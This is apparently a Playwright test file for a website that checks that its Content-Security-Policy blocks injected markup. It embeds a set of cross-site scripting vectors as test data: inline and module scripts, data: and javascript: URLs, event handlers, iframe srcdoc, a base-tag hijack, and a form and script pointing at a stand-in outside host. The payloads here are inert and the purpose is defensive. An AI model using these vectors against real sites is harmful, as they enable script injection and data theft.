import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { pathOf } from '../../src/core/site/urls.ts';
import { attribute, tags } from '../site/published.ts';
import { tideGaugeSite } from '../site/tide-gauge.ts';
import { kindsOfPage, openSite } from './open-site.ts';
import { drawn } from './page-state.ts';

const { site, pages, served, visit } = await openSite(await tideGaugeSite());
const lang = 'en';

/** One page of each policy that the site has: what one policy stops, it stops wherever it stands. */
const onePerPolicy = [
  ...new Map(
    kindsOfPage(site).map(([kind, path]) => {
      const { html } = pages.get(pathOf(site, lang, path))!;
      const policy = tags(html, 'meta').find((tag) => tag.includes('Content-Security-Policy'))!;
      return [attribute(policy, 'content'), [kind, path] as const];
    }),
  ).values(),
];

/** What somebody might get into a page who gets through everything else. Each leaves a mark where it runs. */
const injected = `
<script>window.ran = 'an inline script'</script>
<script src="data:text/javascript,window.ran='a script in an address'"></script>
<script src="https://elsewhere.invalid/x.js"></script>
<script type="module">window.ran = 'an inline module'</script>
<img src="data:,x" onerror="window.ran = 'a handler'">
<svg onload="window.ran = 'a handler of an SVG'"></svg>
<iframe srcdoc="<script>parent.ran = 'a frame'</script>"></iframe>
<iframe src="javascript:parent.ran='an address'"></iframe>
<a id="lure" href="javascript:void(window.ran='a link')">Here</a>
<p id="styled" style="position:fixed">Styled</p>
<style>#styled { float: right }</style>
<base href="https://elsewhere.invalid/">
<form id="theft" action="https://elsewhere.invalid/"><button>Send</button></form>`;

/** Opens a page as if it held what was injected; without its policy too, to see that it would have run. */
async function visitInjected(path: string, policy: 'kept' | 'taken out') {
  const { page } = await visit(lang, '/404.html');
  const asked: string[] = [];
  await page.route('**/*', async (route) => {
    const request = route.request();
    // Only what the policy lets out comes here.
    if (new URL(request.url()).origin !== served) {
      asked.push(request.url());
      return route.abort();
    }
    if (!request.isNavigationRequest()) return route.continue();
    const response = await route.fetch();
    const html = (await response.text()).replace('</main>', () => `${injected}</main>`);
    const kept =
      policy === 'kept'
        ? html
        : html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    return route.fulfill({ response, body: kept });
  });
  await page.goto(served + pathOf(site, lang, path), { waitUntil: 'load' });
  await drawn(page);
  return { page, asked };
}

const ran = (page: Page) => page.evaluate(() => (window as { ran?: string }).ran);

describe('what somebody injects', () => {
  it.each(onePerPolicy)('does nothing on the %s page (%s)', async (_kind, path) => {
    const { page, asked } = await visitInjected(path, 'kept');
    expect(await ran(page)).toBeUndefined();
    await page.evaluate(() => document.getElementById('lure')!.click());
    await drawn(page);
    expect(await ran(page)).toBeUndefined();
    const { position, float } = await page.evaluate(() => {
      const { position, cssFloat } = getComputedStyle(document.getElementById('styled')!);
      return { position, float: cssFloat };
    });
    expect([position, float]).toEqual(['static', 'none']);
    expect(await page.evaluate(() => new URL('x', document.baseURI).origin)).toBe(served);
    await page.evaluate(() => document.querySelector<HTMLFormElement>('#theft')!.submit());
    await drawn(page);
    expect(new URL(page.url()).pathname.endsWith(path)).toBe(true);
    expect(
      await page.evaluate(() => fetch('https://elsewhere.invalid/').then(String, () => 'refused')),
    ).toBe('refused');
    expect(asked).toEqual([]);
  });

  it('would have run without the policy', async () => {
    const { page, asked } = await visitInjected('/', 'taken out');
    await expect.poll(() => ran(page)).toBeDefined();
    await expect.poll(() => asked).toContain('https://elsewhere.invalid/x.js');
  });

  it('does not keep the search from working', async () => {
    const { page } = await visitInjected('/search/', 'kept');
    await page.fill('#q', 'keeper');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => document.querySelectorAll('#found li').length > 0);
    expect(await ran(page)).toBeUndefined();
  });
});
